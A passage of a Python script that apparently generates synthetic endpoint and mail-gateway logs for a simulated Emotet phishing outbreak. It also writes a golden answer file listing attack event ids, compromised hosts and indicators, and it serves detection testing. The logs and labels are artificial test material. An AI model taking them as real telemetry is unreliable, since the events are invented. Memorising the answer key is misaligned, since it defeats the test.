    """dana runs her inventory script: PowerShell -ExecutionPolicy Bypass, SMB to fs-01."""
    ps = proc_start(h, t, PS_EXE, "\"%s\" -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1"
                    % PS_EXE, explorer, "benign", cwd="C:\\Scripts\\")
    proc_start(h, t + 60, SYS32 + "conhost.exe",
               "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", ps, "benign")
    file_create(ps, t + 4_000, "C:\\Users\\dana\\AppData\\Local\\Temp\\inventory-%s.csv" % h.short,
                "benign")
    net_conn(h.base["system"], t + 4_500, FS01_IP, 445, "benign")
    logon(FS01, t + 4_560, "3", "dana", NETBIOS, h.ip, h.short.upper(), "0x81c3f7", "benign")
    file_create(FS_BASE["system"], t + 4_700, "D:\\Shares\\it$\\inventory\\%s.csv" % h.short,
                "benign")


def office_print(h, explorer, outlook, t):
    """emre opens a travel-policy docx from mail and prints it: WINWORD with a child."""
    r = Rand("print/" + h.short)
    word = open_attachment_benign(h, outlook, t, "Travel_Policy_2026.docx",
                                  sha256_of("Travel_Policy_2026.docx"), OFFICE + "WINWORD.EXE",
                                  "\"" + OFFICE + "WINWORD.EXE\" /n \"%s\" /o \"\"", r)
    proc_start(h, word.start_rec.t + 180_000, "C:\\Windows\\splwow64.exe",
               "C:\\Windows\\splwow64.exe 12288", word, "benign")
    net_conn(h.base["system"], word.start_rec.t + 181_000, "10.20.0.40", 445, "benign")
    # And a docx from the share, opened from explorer (explorer: the usual parent).
    proc_start(h, t + 1_500_000, OFFICE + "WINWORD.EXE",
               "\"%sWINWORD.EXE\" /n \"\\\\fs-01\\shared\\Minutes_2026-11-19.docx\" /o \"\""
               % OFFICE, explorer, "benign", salt="2")


def installer(h, explorer, chrome_net, t):
    """farah installs the Contoso agent: download, msiexec, regsvr32 of a DLL, a new service."""
    msi = "C:\\Users\\farah\\Downloads\\ContosoAgent-4.2.1.msi"
    dns_query(chrome_net, t, "download.contoso.example", [WEB["download.contoso.example"]],
              "benign")
    net_conn(chrome_net, t + 50, WEB["download.contoso.example"], 443, "benign",
             domain="download.contoso.example",
             url="https://download.contoso.example/agent/ContosoAgent-4.2.1.msi")
    file_create(chrome_net, t + 4_000, msi, "benign", sha256=sha256_of("ContosoAgent-4.2.1.msi"))
    t += 30_000
    user_msi = proc_start(h, t, SYS32 + "msiexec.exe",
                          "\"C:\\Windows\\System32\\msiexec.exe\" /i \"%s\"" % msi, explorer,
                          "benign", cwd="C:\\Users\\farah\\Downloads\\")
    svc_msi = proc_start(h, t + 400, SYS32 + "msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V",
                         h.base["services"], "benign", user="SYSTEM", domain="NT AUTHORITY",
                         integrity="System", salt="svc")
    custom = proc_start(h, t + 9_000, SYS32 + "msiexec.exe",
                        "C:\\Windows\\System32\\MsiExec.exe -Embedding 5E1B0C2A7D3F48C1A9D6E0B2"
                        "F4C83A17 E Global\\MSI0000", svc_msi, "benign", user="SYSTEM",
                        domain="NT AUTHORITY", integrity="System", salt="emb")
    for k, name in enumerate(["agent.dll", "agentsvc.exe", "agent.conf"]):
        file_create(svc_msi, t + 10_000 + 300 * k, "C:\\Program Files\\Contoso\\" + name,
                    "benign", sha256=sha256_of("contoso/" + name) if k < 2 else None)
    proc_start(h, t + 12_000, SYS32 + "regsvr32.exe",
               "\"C:\\Windows\\system32\\regsvr32.exe\" /s "
               "\"C:\\Program Files\\Contoso\\agent.dll\"",
               custom, "benign", user="SYSTEM", domain="NT AUTHORITY", integrity="System")
    service_install(h, t + 14_000, "ContosoAgent",
                    "\"C:\\Program Files\\Contoso\\agentsvc.exe\" --service", "farah", "benign")
    agent = proc_start(h, t + 15_000, "C:\\Program Files\\Contoso\\agentsvc.exe",
                       "\"C:\\Program Files\\Contoso\\agentsvc.exe\" --service", h.base["services"],
                       "benign", user="SYSTEM", domain="NT AUTHORITY", integrity="System",
                       sha256=sha256_of("contoso/agentsvc.exe"))
    for k in range(4):
        tt = t + 18_000 + 300_000 * k
        if k == 0:
            dns_query(agent, tt - 100, "telemetry.contoso.example",
                      [WEB["telemetry.contoso.example"]], "benign")
        net_conn(agent, tt, WEB["telemetry.contoso.example"], 443, "benign",
                 domain="telemetry.contoso.example")
    return user_msi


def fileserver_day(t0, t1):
    """fs-01: computer-account logons, TrustedInstaller and backup jobs under services.exe."""
    r = Rand("fs01")
    base = FS_BASE
    t = t0 + 30_000
    while t < t1:
        h = r.choice(list(WS.values()))
        if r.below(2):
            logon(FS01, t, "3", h.short.upper() + "$", NETBIOS, h.ip, None,
                  "0x%x" % (0x700000 + r.below(0xfffff)), "benign")
        else:
            logon(FS01, t, "3", h.user, NETBIOS, h.ip, h.short.upper(),
                  "0x%x" % (0x700000 + r.below(0xfffff)), "benign")
        t += r.between(90_000, 420_000)
    ti = proc_start(FS01, at("08:40:12", 120), "C:\\Windows\\servicing\\TrustedInstaller.exe",
                    "C:\\Windows\\servicing\\TrustedInstaller.exe", base["services"], "benign",
                    user="SYSTEM", domain="NT AUTHORITY", integrity="System")
    proc_start(FS01, at("08:40:15", 20),
               "C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0"
               ".20348.2030_none_8f5a6bc9c5e1f3a2\\TiWorker.exe",
               "C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0"
               ".20348.2030_none_8f5a6bc9c5e1f3a2\\TiWorker.exe -Embedding", base["dcom"],
               "benign", user="SYSTEM", domain="NT AUTHORITY", integrity="System")
    for k in range(3):
        file_create(ti, at("08:41:00") + 20_000 * k,
                    "C:\\Windows\\Logs\\CBS\\CBS%s.log" % ("" if k == 0 else str(k)), "benign")
    bk = proc_start(FS01, at("09:45:00", 5), "C:\\Program Files\\Contoso Backup\\cbagent.exe",
                    "\"C:\\Program Files\\Contoso Backup\\cbagent.exe\" --job nightly-verify",
                    base["sched"], "benign", user="SYSTEM", domain="NT AUTHORITY",
                    integrity="System", cwd="C:\\Program Files\\Contoso Backup\\")
    proc_start(FS01, at("09:45:01", 300), SYS32 + "cmd.exe",
               "C:\\Windows\\system32\\cmd.exe /c vssadmin list shadows", bk, "benign",
               user="SYSTEM", domain="NT AUTHORITY", integrity="System")
    net_conn(bk, at("09:45:30"), "10.20.0.50", 443, "benign", domain="backup.corp.example")


def benign_mail():
    """The gateway's ordinary morning."""
    all_users = ["%s@corp.example" % u for u in WS]
    mail(at("08:00:00", 412), "<nl-2026-11.4711@news.corp-newsletter.example>",
         "newsletter@news.corp-newsletter.example", all_users, "Corp Monthly - November 2026",
         "benign", key="mail:newsletter",
         attachments=[(NEWS_PDF, "application/pdf", 1_482_331, NEWS_SHA256)],
         urls=["https://intranet.corp.example/news/2026-11"], sender_ip="198.18.12.7")
    mail(at("08:41:09", 77), "<20261120084102.a1b2@travelpartner.example>",
         "booking@travelpartner.example", ["emre@corp.example"], "Updated travel policy 2026",
         "benign", attachments=[("Travel_Policy_2026.docx",
                                 "application/vnd.openxmlformats-officedocument.wordprocessingml."
                                 "document", 48_112, sha256_of("Travel_Policy_2026.docx"))],
         sender_ip="198.18.40.2")
    r = Rand("mail")
    others = [
        ("08:12:40", "it-service@servicedesk.example", ["dana@corp.example"],
         "Ticket #48213 resolved", [], []),
        ("08:25:03", "noreply@github.com", ["farah@corp.example", "emre@corp.example"],
         "[corp/tools] Pull request #88 merged", [], ["https://github.com/corp/tools/pull/88"]),
        ("08:33:51", "events@conference.example", ["akiko@corp.example"],
         "Your ticket for DevDays 2027", [("ticket.pdf", "application/pdf", 92_004,
                                           sha256_of("ticket.pdf"))], []),
        ("08:51:17", "facilities@corp-office.example", ["akiko@corp.example", "bruno@corp.example"],
         "Parking garage closed on Monday", [], []),
        ("09:09:44", "promo@deals.example", ["bruno@corp.example", "chen@corp.example"],
         "Black Friday: 70% off", [], ["https://deals.example/bf?u=1"]),
        ("09:17:20", "hr@corp-benefits.example", ["chen@corp.example"],
         "Open enrollment reminder", [], ["https://benefits.corp-benefits.example/enroll"]),
        ("09:33:05", "noreply@parcel.example", ["farah@corp.example"], "Your parcel is on its way",
         [], ["https://track.parcel.example/a8f3"]),
        ("09:52:10", "team@saas-vendor.example", ["dana@corp.example", "emre@corp.example"],
         "Scheduled maintenance 2026-11-22", [], []),
        ("10:04:38", "accounts@northwind-supplies.example", ["akiko@corp.example"],
         "Statement November", [("Statement_Nov.pdf", "application/pdf", 210_377,
                                 sha256_of("Statement_Nov.pdf"))], []),
        ("10:15:55", "recruiting@jobs.example", ["farah@corp.example"], "Interview schedule", [],
         []),
    ]
    for (hms, snd, to, subj, atts, urls) in others:
        mail(at(hms, r.below(1000)), "<%s@%s>" % (digest("msg" + hms)[:24], snd.split("@")[1]),
             snd, to, subj, "benign", attachments=atts, urls=urls,
             sender_ip="198.18.%d.%d" % (r.between(1, 200), r.between(1, 250)))
    # One the gateway blocked: the verdict is in event.outcome / event.action.
    mail(at("09:41:27", 310), "<%s@invoice-portal.example-bad.test>" % digest("blocked")[:20],
         "billing@invoice-portal.example-bad.test", ["chen@corp.example", "dana@corp.example"],
         "Payment overdue", "benign",
         attachments=[("Payment_1120.zip", "application/zip", 8_204,
                       sha256_of("Payment_1120.zip"))],
         outcome="failure", action="quarantined", sender_ip="198.18.99.9")


FS_BASE = None


def build():
    global FS_BASE
    t0 = at("07:55:00")
    t_end = at("10:30:00")
    FS_BASE = base_processes(FS01)
    for h in HOSTS:
        h.base = FS_BASE if h is FS01 else base_processes(h)
        windows_noise(h, h.base, t0, t_end)
    fileserver_day(t0, t_end)

    day = {}
    for i, (u, h) in enumerate(WS.items()):
        day[u] = workstation_day(h, h.base, t0 + 40_000 * i + Rand("logon").below(20_000), t_end)

    benign_mail()
    # The phishing mail: a hijacked reply chain to three people; only two open it.
    mail(at("09:00:00", 287), ATTACK_MSGID, "accounts@northwind-supplies.example",
         ["akiko@corp.example", "bruno@corp.example", "chen@corp.example"],
         "RE: Invoice 2026-11", "attack", key="mail:phish",
         attachments=[(DOCM_NAME, "application/vnd.ms-word.document.macroEnabled.12", DOCM_SIZE,
                       DOCM_SHA256)],
         reply_to="accounts.northwind@mailbox.example-bad.test", sender_ip="198.51.100.201")

    # Everyone reads the newsletter at some point (PDF from Outlook, AcroRd32: benign).
    for u, tt in [("akiko", "08:06:31"), ("bruno", "08:22:05"), ("chen", "08:47:52"),
                  ("emre", "09:12:40"), ("dana", "09:26:18"), ("farah", "09:58:03")]:
        open_newsletter(WS[u], day[u][1], at(tt, 500))

    a_loader = infect(WS["akiko"], day["akiko"][1], day["akiko"][2], at("09:03:12", 415),
                      rundll=False)
    b_loader = infect(WS["bruno"], day["bruno"][1], day["bruno"][2], at("09:06:41", 90),
                      rundll=True)
    spread_to_fs01(a_loader, at("09:21:08", 640))
    send_spam(b_loader, at("09:24:30", 200))

    office_print(WS["emre"], day["emre"][0], day["emre"][1], at("09:15:02", 330))
    admin_inventory(WS["dana"], day["dana"][0], at("09:30:00", 120))
    installer(WS["farah"], day["farah"][0], find_chrome_net(WS["farah"]), at("09:44:10", 55))


def find_chrome_net(h):
    for r in RECS:
        if r.host is h and r.doc["event"]["code"] == "1" and "NetworkService" in \
                r.doc["process"]["command_line"]:
            return PROC_BY_GUID[r.doc["process"]["entity_id"]]
    raise SystemExit("no chrome network process on " + h.short)


# ------------------------------------------------------------------------------------------------
# Finishing: ids, dotted keys, delivery order, duplicates
# ------------------------------------------------------------------------------------------------

def flatten(obj, prefix=""):
    out = {}
    for k, v in obj.items():
        key = prefix + k
        if isinstance(v, dict):
            out.update(flatten(v, key + "."))
        elif isinstance(v, list) and v and isinstance(v[0], dict):
            out[key] = [flatten(x) for x in v]
        else:
            out[key] = v
    return out


def dotted_partial(doc):
    """Mixed shape: one subtree promoted to top-level dotted keys, the rest stays nested."""
    doc = json.loads(json.dumps(doc))
    for top, sub in [("process", "parent"), ("winlog", "event_data"), ("file", "hash"),
                     ("destination", None), ("email", "from"), ("dns", "question")]:
        if top in doc and (sub is None or sub in doc[top]):
            if sub is None:
                moved = flatten(doc.pop(top), top + ".")
            else:
                moved = flatten(doc[top].pop(sub), "%s.%s." % (top, sub))
            doc.update(moved)
            return doc
    return doc


def finish():
    # Record ids: per host and channel, increasing with event time, like winlog.record_id.
    by_host = {}
    for r in RECS:
        by_host.setdefault(r.host.short, []).append(r)
    for short, recs in by_host.items():
        recs.sort(key=lambda x: x.t)
        # Strictly increasing event time within a host (ms resolution).
        for a, b in zip(recs, recs[1:]):
            if b.t <= a.t:
                b.t = a.t + 1
        counters = {}
        for r in recs:
            host = r.host
            n = counters.get(r.channel, host.record_base + {"sysmon": 0, "security": 500_000,
                                                             "system": 900_000,
                                                             "mailgw": 7_000_000}[r.channel])
            counters[r.channel] = n + 1
            r.doc["@timestamp"] = iso(r.t)
            r.id = hashlib.sha1(("%s|%s|%d" % (host.fqdn, r.channel, n)).encode()).hexdigest()[:20]
            r.doc["event"]["id"] = r.id
            if "winlog" in r.doc:
                r.doc["winlog"]["record_id"] = n
    ids = [r.id for r in RECS]
    if len(set(ids)) != len(ids):
        raise SystemExit("event.id collision")

    # Delivery: agents ship within a couple of seconds; the mail gateway's batch job ~10 minutes
    # late; ws-012's agent lost its connection 09:06-09:10 and flushed 2 minutes late.
    jr = Rand("delivery")
    for r in RECS:
        r.delay = 300 + jr.below(1_700)
        if r.channel == "mailgw":
            r.delay = 570_000 + jr.below(60_000)
        elif r.host is WS["bruno"] and at("09:06:00") <= r.t < at("09:10:00"):
            r.delay = 120_000 + jr.below(2_000)
        r.doc["event"]["created"] = iso(r.t + r.delay)

    # ~20% of records use dotted keys: most of those fully flat, some mixed.
    for r in RECS:
        v = int(hashlib.sha256(("shape|" + r.id).encode()).hexdigest()[:8], 16) % 100
        if v < 14:
            doc = flatten(r.doc)
        elif v < 20:
            doc = dotted_partial(r.doc)
        else:
            doc = r.doc
        r.line = json.dumps(doc, separators=(",", ":"), ensure_ascii=True)


def role_sets():
    """attack / context / benign. Context = non-attack records an attack record points at."""
    attack = [r for r in RECS if r.role == "attack"]
    context = set()
    start_by_guid = {}
    for r in RECS:
        if r.doc["event"].get("code") == "1":
            start_by_guid[r.doc["process"]["entity_id"]] = r
    session_logons = {}
    for r in RECS:
        ed = r.doc.get("winlog", {}).get("event_data", {})
        if r.doc["event"].get("code") == "4624" and ed["LogonType"] == "2":
            session_logons[(r.host.short, r.doc["winlog"]["event_data"]["TargetLogonId"])] = r
    for r in attack:
        if r.doc["event"].get("code") == "1":
            g = r.doc["process"]["parent"]["entity_id"]
            while g in start_by_guid:
                pr = start_by_guid[g]
                if pr.role != "attack":
                    context.add(pr.id)
                g = pr.doc["process"]["parent"]["entity_id"]
            s = session_logons.get((r.host.short, r.doc["winlog"]["event_data"]["LogonId"]))
            if s:
                context.add(s.id)
    return attack, context


def delivered():
    """File order: by arrival at Kafka, plus N_DUPLICATES re-deliveries (same bytes)."""
    order = sorted(RECS, key=lambda r: (r.t + r.delay, r.id))
    # Re-deliveries, as a producer retry after a lost ack would make them. Chosen by role so the
    # dedup test touches attack, benign and mail records.
    picks = []
    for pred in [lambda r: r.key == "winword_start:ws-012",
                 lambda r: r.key == "c2:ws-011",
                 lambda r: r.key == "mail:newsletter",
                 lambda r: r.role == "benign" and r.doc["event"].get("code") == "22",
                 lambda r: r.role == "benign" and r.doc["event"].get("code") == "4624"]:
        picks.append(next(r for r in order if pred(r) and r not in picks))
    lines = [(r.t + r.delay, 0, r.line) for r in order]
    for i, r in enumerate(picks):
        lines.append((r.t + r.delay + 45_000 + 1_000 * i, 1, r.line))
    lines.sort(key=lambda x: (x[0], x[1]))
    return [x[2] for x in lines], picks


def expectation(picks):
    attack, context = role_sets()
    by_t = sorted(RECS, key=lambda r: (r.t, r.id))
    must = [r for r in by_t if r.key and r.role == "attack"]
    exp = {
        "scenario": "emotet-outbreak",
        "description": "Emotet reply-chain mail at corp.example; see docs/scenario.md",
        "attack_event_ids": [r.id for r in by_t if r.role == "attack"],
        "context_event_ids": [r.id for r in by_t if r.id in context],
        "benign_event_ids": [r.id for r in by_t if r.role == "benign" and r.id not in context],
        "compromised_hosts": sorted(["fs-01.corp.example", WS["akiko"].fqdn, WS["bruno"].fqdn]),
        "not_compromised": [WS[u].fqdn for u in ["chen", "emre", "dana", "farah"]],
        "compromised_users": ["corp\\akiko", "corp\\bruno"],
        "must_include": [r.id for r in must],
        "must_include_labels": {r.id: r.key for r in must},
        "duplicate_event_ids": [r.id for r in picks],
        "iocs": {
            "attachment_sha256": DOCM_SHA256, "payload_sha256": DLL_SHA256,
            "payload_url": PAYLOAD_URL, "payload_domain": PAYLOAD_DOMAIN,
            "c2": ["%s:%d" % c for c in C2], "phish_message_id": ATTACK_MSGID,
        },
        "counts": {"lines": len(RECS) + len(picks), "unique_records": len(RECS),
                   "attack": len(attack), "context": len(context),
                   "benign": len(RECS) - len(attack) - len(context)},
    }
    return exp


# ------------------------------------------------------------------------------------------------
# Validation
# ------------------------------------------------------------------------------------------------

def get_path(doc, path):
    """Resolve an ECS path in a nested, dotted or mixed document (what the decoder must do)."""
    if path in doc:
        return doc[path]
    parts = path.split(".")
    for i in range(len(parts) - 1, 0, -1):
        head = ".".join(parts[:i])
        if head in doc and isinstance(doc[head], dict):
            v = get_path(doc[head], ".".join(parts[i:]))
            if v is not None:
                return v
    return None


def validate(lines, exp):
    errors = []
    seen = {}
    dup = 0
    for n, line in enumerate(lines, 1):
        try:
            doc = json.loads(line)
        except ValueError as e:
            errors.append("line %d: not JSON: %s" % (n, e))
            continue
        eid = get_path(doc, "event.id")
        for f in ["@timestamp", "event.id", "event.kind", "event.category", "event.type",
                  "host.name", "host.ip", "ecs.version", "agent.type"]:
            if get_path(doc, f) is None:
                errors.append("line %d: missing %s" % (n, f))
        if get_path(doc, "agent.type") == "winlogbeat":
            for f in ["event.code", "user.name", "user.domain"]:
                if get_path(doc, f) is None:
                    errors.append("line %d: missing %s" % (n, f))
        if eid in seen:
            if seen[eid] != line:
                errors.append("line %d: id %s reused with different content" % (n, eid))
            dup += 1
        seen[eid] = line
    if dup != N_DUPLICATES:
        errors.append("expected %d duplicate lines, found %d" % (N_DUPLICATES, dup))
    ids = set(seen)
    a, c, b = (set(exp[k]) for k in ["attack_event_ids", "context_event_ids", "benign_event_ids"])
    if a & c or a & b or b & c:
        errors.append("role sets overlap")
    if a | b | c != ids:
        errors.append("role sets do not cover the file exactly")
    if not set(exp["must_include"]) <= a:
        errors.append("must_include not within attack ids")
    # Event time within a host, in generation order, strictly increasing; causality holds.
    per_host = {}
    for r in RECS:
        per_host.setdefault(r.host.short, []).append(r)
    for short, recs in per_host.items():
        recs = sorted(recs, key=lambda x: x.doc["winlog"]["record_id"] if "winlog" in x.doc
                      else x.t)
        ts = [r.t for r in sorted(recs, key=lambda x: x.t)]
        if any(y <= x for x, y in zip(ts, ts[1:])):
            errors.append("%s: event times not strictly increasing" % short)
    start = {}
    for r in RECS:
        if r.doc["event"].get("code") == "1":
            start[r.doc["process"]["entity_id"]] = r.t
    for r in RECS:
        p = r.doc.get("process")
        if not p:
            continue
        if r.doc["event"].get("code") == "1":
            pt = start.get(p["parent"]["entity_id"])
            if pt is not None and pt >= r.t:
                errors.append("%s: child starts before parent" % r.id)
        else:
            st = start.get(p["entity_id"])
            if st is not None and st > r.t:
                errors.append("%s: activity before process start" % r.id)
    # Out-of-order delivery really happened: some mail line precedes an endpoint line it caused.
    pos = {}
    for n, line in enumerate(lines):
        pos.setdefault(get_path(json.loads(line), "event.id"), n)
    phish = next(r for r in RECS if r.key == "mail:phish")
    write = next(r for r in RECS if r.key == "attachment_write:ws-011")
    if pos[phish.id] < pos[write.id]:
        errors.append("phishing mail should arrive after the attachment write it caused")
    return errors


def render():
    build()
    finish()
    lines, picks = delivered()
    exp = expectation(picks)
    errors = validate(lines, exp)
    jsonl = "".join(line + "\n" for line in lines)
    exp_text = json.dumps(exp, indent=1) + "\n"
    return jsonl, exp_text, errors, exp


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", help="write the ECS JSON lines here (default: stdout)")
    ap.add_argument("--expected", help="write the golden expectation JSON here")
    ap.add_argument("--check", action="store_true",
                    help="validate and compare with the committed files; write nothing")
    args = ap.parse_args()

    jsonl, exp_text, errors, exp = render()
    for e in errors:
        print("gen_emotet: " + e, file=sys.stderr)
    if errors:
        return 1
    if args.check:
        bad = 0
        for path, text in [(args.out or DEFAULT_OUT, jsonl),
                           (args.expected or DEFAULT_EXPECTED, exp_text)]:
            try:
                with open(path, encoding="ascii") as f:
                    same = f.read() == text
            except OSError:
                same = False
            if not same:
                print("gen_emotet: %s differs from a fresh generation" % path, file=sys.stderr)
                bad = 1
        c = exp["counts"]
        print("gen_emotet: %d lines, %d records (%d attack, %d context, %d benign)%s"
              % (c["lines"], c["unique_records"], c["attack"], c["context"], c["benign"],
                 "" if bad else ", committed files up to date"), file=sys.stderr)
        return bad
    if args.out and args.out != "-":
        with open(args.out, "w", encoding="ascii", newline="\n") as f:
            f.write(jsonl)
    else:
        sys.stdout.write(jsonl)
    if args.expected:
        with open(args.expected, "w", encoding="ascii", newline="\n") as f:
            f.write(exp_text)
    return 0


if __name__ == "__main__":
    sys.exit(main())
